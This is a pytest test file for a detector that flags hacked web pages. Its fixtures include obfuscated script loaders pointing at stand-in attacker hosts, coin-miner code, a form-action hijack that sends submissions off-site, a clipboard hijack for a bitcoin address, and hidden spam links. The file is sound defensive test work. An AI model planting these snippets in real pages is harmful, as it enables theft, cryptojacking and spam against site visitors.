from __future__ import annotations

import base64

import pytest

from pagegrade.checks.security.hacked_page import MIN_MOVED_LINKS, MIN_SPAM_LINKS, hacked_page
from tests.builders import evaluated, outcome

HEAD = "<!doctype html><title>School</title><h1>Welcome</h1><p>Term dates, lunches and the school choir.</p>"
SCRIPT = "<script>eval(atob('ZG9jdW1lbnQud3JpdGUoMSk='))</script>"
FRAME = "<iframe src=https://trk.evil.example/x width=1 height=1></iframe>"


def spam(count: int, text: str = "buy viagra without prescription") -> str:
    """Links to as many sites."""
    return "".join(f"<a href=https://p{n}.pills{n}.example/>{text}</a>" for n in range(count))


@pytest.mark.parametrize(
    "wrap",
    [
        "<div style='position:absolute;left:-9999px'>{}</div>",
        "<div style='display:none'>{}</div>",
        "<div hidden>{}</div>",
        "<marquee width=1 height=1>{}</marquee>",
        "<div style='height:0;width:0;overflow:hidden'>{}</div>",
        "<font style='font-size:1px'>{}</font>",
        "<style>.zx{{position:absolute;top:-5000px}}</style><div class='a zx'>{}</div>",
        "<style>.menu{{height:12px; .zx{{position:absolute;left:-9999px}}}}</style>"
        "<div class=menu><p class=zx>{}</p></div>",
        "<style>@media screen{{.menu{{color:red; & .zx{{font-size:0}}}}}}</style>"
        "<div class=menu><p class=zx>{}</p></div>",
        "<div id=hd>{}</div><script>document.getElementById('hd').style.display='none'</script>",
    ],
)
def test_hidden_spam_is_found_however_it_is_hidden(wrap: str) -> None:
    """By styles, attributes, rules of the page or a script; the same in sight of all is another matter."""
    assert outcome(hacked_page, HEAD + wrap.format(spam(MIN_SPAM_LINKS))).state == "hacked"
    assert outcome(hacked_page, HEAD + wrap.format(spam(MIN_SPAM_LINKS - 1))).state == "clean"
    assert outcome(hacked_page, HEAD + spam(MIN_SPAM_LINKS)).state == "clean"


def test_links_far_off_the_screen_need_no_typical_words() -> None:
    """In number, and to several sites."""
    wrap = "<div style='position:absolute;left:-9999px'>{}</div>"

    assert outcome(hacked_page, HEAD + wrap.format(spam(MIN_MOVED_LINKS, "good read"))).state == "hacked"
    assert outcome(hacked_page, HEAD + wrap.format(spam(MIN_MOVED_LINKS - 1, "good read"))).state == "clean"


@pytest.mark.parametrize(
    "html",
    [
        "<div hidden>" + spam(20, "our partner") + "</div>",
        "<div style='transform:translateX(-1200px)'>" + spam(20, "our sponsor") + "</div>",
        "<div style='max-height:0;overflow:hidden'>" + spam(20, "source") + "</div>",
        "<div style='left:-9999px'>"
        + "".join(f"<a href=https://v{n}.example/privacy>Privacy policy</a>" for n in range(30))
        + "</div>",
        "<div style='left:-9999px'>"
        + "<a href=https://facebook.com/x>Share</a><a href=https://x.com/y>Post</a>" * 9
        + "</div>",
        "<div style='left:-9999px'>" + "".join(f"<a href=/p{n}>casino {n}</a>" for n in range(30)) + "</div>",
        "<div hidden>" + spam(9, "find a specialist in ambient music") + "</div>",
        "<style>.zx{height:12px; .menu{left:-9999px}}</style><div class=zx>" + spam(20, "our partner") + "</div>",
        "<iframe src=https://www.googletagmanager.com/ns.html?id=1 width=0 height=0></iframe>",
        "<iframe src=https://v.example/film width=600 height=400></iframe>",
        "<script>var a = atob('eHl6'); var b = String.fromCharCode(65);</script>",
        '<script>document.write(unescape("%3Cscript src=\'" + host + "ga.js\'%3E"));</script>',
    ],
)
def test_ordinary_hidden_things_are_clean(html: str) -> None:
    """Menus, sliders, vendors' policies, social networks, own links, tag managers and the page's own subject."""
    assert outcome(hacked_page, HEAD + html).state == "clean"


def test_hidden_links_about_the_own_subject_are_clean() -> None:
    """A page about casinos links to casinos; its title and its own text say so."""
    links = "<div hidden>" + spam(5, "casino bonus") + "</div>"
    page = "<title>Casino reviews</title><h1>All casinos</h1><p>" + "Casino poker roulette. " * 12

    assert outcome(hacked_page, page + links).state == "clean"
    assert outcome(hacked_page, HEAD + "<p>" + "Casino poker roulette. " * 12 + links).state == "hacked"


@pytest.mark.parametrize("wrap", ["<div hidden>{}</div>", "<div style='position:absolute;left:-9999px'>{}</div>"])
def test_more_hidden_links_are_never_better(wrap: str) -> None:
    """They do not become the subject of the page, whatever their number."""
    states = [
        outcome(hacked_page, HEAD + wrap.format(spam(count, "casino online"))).state for count in (3, 7, 11, 20, 70)
    ]

    assert states == ["hacked"] * 5


HIDING = [
    "<style>.q{clip:rect(0 0 0 0);position:absolute}</style><div class=q>{}</div>",
    "<style>.q{clip-path:inset(50%);position:absolute}</style><div class=q>{}</div>",
    "<div style='color:#fff;background:#fff'>{}</div>",
    "<div style='font-size:0'>{}</div>",
]


@pytest.mark.parametrize("wrap", HIDING)
def test_links_hidden_by_what_style_sheets_know(wrap: str) -> None:
    """In number, whatever they say."""
    links = "".join(
        f"<a href=https://p{n}.o{n}.example/ style='color:inherit'>good read here today</a>" for n in range(8)
    )
    if "#fff" in wrap:
        links = links.replace("color:inherit", "color:#fff")

    assert outcome(hacked_page, HEAD + wrap.replace("{}", links)).state == "hacked"


def script(code: str) -> str:
    """A page with an inline script."""
    return f"{HEAD}<script>{code}</script>"


def escaped(text: str) -> str:
    """In hexadecimal escapes."""
    return "".join(f"\\x{ord(one):02x}" for one in text)


ADDRESS = "https://cdn.evil-stats.example/x.js"
BASE64 = base64.b64encode(ADDRESS.encode()).decode()
NUMBERS = ",".join(str(ord(one)) for one in ADDRESS)


@pytest.mark.parametrize(
    "code",
    [
        f"var s=document.createElement('script');s.src=atob('{BASE64}');document.head.appendChild(s)",
        f"var s=document.createElement('script');s.src='{escaped(ADDRESS)}';document.head.appendChild(s)",
        f"location.href=String.fromCharCode({NUMBERS})",
        "document.write(unescape('" + "".join(f"%{ord(one):02x}" for one in f"<script src={ADDRESS}>") + "'))",
        "var m=new CoinHive.Anonymous('k');m.start()",
        "for(var i=0;i<navigator.hardwareConcurrency;i++)new Worker('/w.js');var p=new WebSocket('wss://p');throttle=.2",
        "document.addEventListener('click',function(){window.open('https://ads.pop.example/x');window.focus()})",
        "document.onclick=function(){window.open('//ads.pop.example/x')}",
    ],
)
def test_scripts_that_serve_others(code: str) -> None:
    """They load what they hide, mine coins, or open windows."""
    assert outcome(hacked_page, script(code)).state == "hacked"


@pytest.mark.parametrize(
    "code",
    [
        "eval(function(p,a,c,k,e,d){return p}('0',1,1,'x'.split('|'),0,{}))",
        "var _0x1a2b=['a','b'];" + "_0x1a2b.push(_0x3c4d);" * 10,
        "new Worker(URL.createObjectURL(new Blob([atob('cG9zdE1lc3NhZ2UoMSk=')])))",
    ],
)
def test_scripts_that_hide_what_they_do(code: str) -> None:
    """Packed, with names of numbers, or as a worker of decoded text."""
    assert outcome(hacked_page, script(code)).state == "suspicious"


@pytest.mark.parametrize(
    "code",
    [
        "var icon='data:image/png;base64,iVBORw0KGgo=';document.body.appendChild(x)",
        f"var s='{escaped('Grüße aus München')}';document.body.innerHTML=s",
        "var w=new Worker('/search.js');w.postMessage(navigator.hardwareConcurrency)",
        "share.onclick=function(){window.open('https://share.other.example/x')}",
        "document.addEventListener('click',function(){window.open('/help')})",
        "new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))",
    ],
)
def test_ordinary_scripts_are_clean(code: str) -> None:
    """Pictures, umlauts, workers, and windows of one button or of the own site."""
    assert outcome(hacked_page, script(code)).state == "clean"


KEYWORDS = [
    ("en", "A dentist you can trust", "スーパーコピー 時計 激安 通販"),
    ("ru", "Стоматология на Садовой", "スーパーコピー 時計 激安 通販"),
    ("ja", "横浜の歯科医院", "купить диплом недорого"),
    ("ar", "عيادة الأسنان", "купить диплом недорого"),
    ("th", "คลินิกทันตกรรม", "купить диплом недорого"),
    ("el", "Οδοντιατρείο", "베트남 카지노 사이트"),
]


@pytest.mark.parametrize(("language", "own", "foreign"), KEYWORDS)
def test_keywords_in_a_foreign_script(language: str, own: str, foreign: str) -> None:
    """In title, description and links, beside a page in its own language."""
    links = "".join(f"<a href=/shop{n}.html>{foreign} {n}</a>" for n in range(9))
    head = f"<html lang={language}><title>{foreign}</title><meta name=description content='{foreign}'>"
    body = f"<h1>{own}</h1><p>{own * 9}"

    assert outcome(hacked_page, head + body + links).state == "hacked"
    assert outcome(hacked_page, head.replace(foreign, own) + body + links).state == "clean"
    assert outcome(hacked_page, head.replace(foreign, own, 1) + body + links).state == "clean"
    assert outcome(hacked_page, f"{head}<h1>{foreign}</h1>{links}").state == "clean"
    assert outcome(hacked_page, head.replace(foreign, foreign * 9) + body).state == "hacked"


def test_links_that_visitors_have_left() -> None:
    """Followed, many, to many sites, beside a form for comments or with a few names for all of them."""
    links = "".join(f"<p>nice post <a href=https://s{n}.shop{n}.example/>cheap things</a>" for n in range(30))
    form = "<form action=/comment><textarea name=t></textarea></form>"

    assert outcome(hacked_page, HEAD + links + form).state == "hacked"
    assert outcome(hacked_page, HEAD + links).state == "clean"
    assert outcome(hacked_page, HEAD + links.replace("<a ", "<a rel=ugc ") + form).state == "clean"
    for count, state in ((1, "clean"), (5, "hacked"), (30, "clean")):
        named = "".join(f"<a href=https://s{n}.shop{n}.example/>k{n % count}</a>" for n in range(45))
        assert outcome(hacked_page, HEAD + named).state == state

    assert outcome(hacked_page, HEAD + links + form + "<a href=/p>own</a>" * 11).state == "clean"


def test_disguised_script_is_suspicious_and_with_an_invisible_frame_a_hack() -> None:
    """A frame alone is how trackers count; together they have no honest use."""
    assert outcome(hacked_page, HEAD + SCRIPT).state == "suspicious"
    assert outcome(hacked_page, HEAD + FRAME).state == "clean"
    assert outcome(hacked_page, HEAD + SCRIPT + FRAME).state == "hacked"


def test_message_of_an_intruder() -> None:
    """As title or heading of a short page; an article about a hack is one."""
    assert (
        outcome(hacked_page, "<title>Hacked by ZeroCool</title><h1>Hacked By ZeroCool</h1><p>Greetz").state == "hacked"
    )
    assert (
        outcome(hacked_page, "<title>Hacked by whom?</title><h1>Hacked by whom?</h1>" + "<p>Text of it. " * 90).state
        == "clean"
    )


def test_finding_names_each_element_once() -> None:
    """The same address twice is one link."""
    found = evaluated(hacked_page, f"{HEAD}<div hidden>{spam(5)}{spam(5)}</div>")

    assert found.loss == 1
    assert getattr(found.verdict, "total", None) == 5


def test_worker_from_a_blob_on_every_core_mines() -> None:
    """The script that it runs is decoded, and it asks how many cores there are."""
    script = "for(i=0;i<navigator.hardwareConcurrency;i++)new Worker(URL.createObjectURL(new Blob([atob('eA==')])))"

    assert outcome(hacked_page, f"{HEAD}<script>{script}</script>").state == "hacked"
    assert outcome(hacked_page, f"{HEAD}<script>new Worker('/sort.js')</script>").state == "clean"


def test_disguised_address_of_a_socket_is_one_of_another_site() -> None:
    """Miners and skimmers talk by sockets."""
    hidden = "".join(f"\\x{ord(one):02x}" for one in "wss://pool.bad.example")

    assert outcome(hacked_page, f'{HEAD}<script>eval(new WebSocket("{hidden}"))</script>').state == "hacked"


@pytest.mark.parametrize(
    ("script", "harmless"),
    [
        (
            "if(/google/.test(document.referrer))location.href='https://pillole.test/'",
            ("https://pillole.test/", "/it/"),
        ),
        (
            "var r=document.referrer;if(/google/.test(r)){location='https://pillole.test/'}",
            ("if(", "count(r);function leave(){}if("),
        ),
        (
            "f.addEventListener('submit',function(){f.action='https://zbieraj.test/g'})",
            ("https://zbieraj.test/g", "/g"),
        ),
        (
            "f.onsubmit=function(){f.setAttribute('action','https://zbieraj.test/g')}",
            ("f.onsubmit", "var f=document.createElement('form');f.onsubmit"),
        ),
        (
            "document.addEventListener('copy',e=>{e.clipboardData.setData('text/plain','bc1q');e.preventDefault()})",
            ("'bc1q'", "getSelection()+'bc1q'"),
        ),
        (
            "document.addEventListener('copy',e=>{e.clipboardData.setData('text/plain','bc1q');e.preventDefault()})",
            ("})", "});document.execCommand('copy')"),
        ),
    ],
)
@pytest.mark.parametrize("text", ["Запись на курсы", "講座の申し込み", "تسجيل الدروس", "Zapisy"])
def test_scripts_that_take_visitors_or_what_is_theirs(script: str, harmless: tuple[str, str], text: str) -> None:
    """By where they come from, what they enter, and what they copy."""
    page = f"<h1>{text}</h1><form action=/a method=post><input name=n></form><script>{{}}</script>"

    assert outcome("hacked-page", page.format(script)).state == "hacked"
    assert outcome("hacked-page", page.format(script.replace(*harmless))).state == "clean"
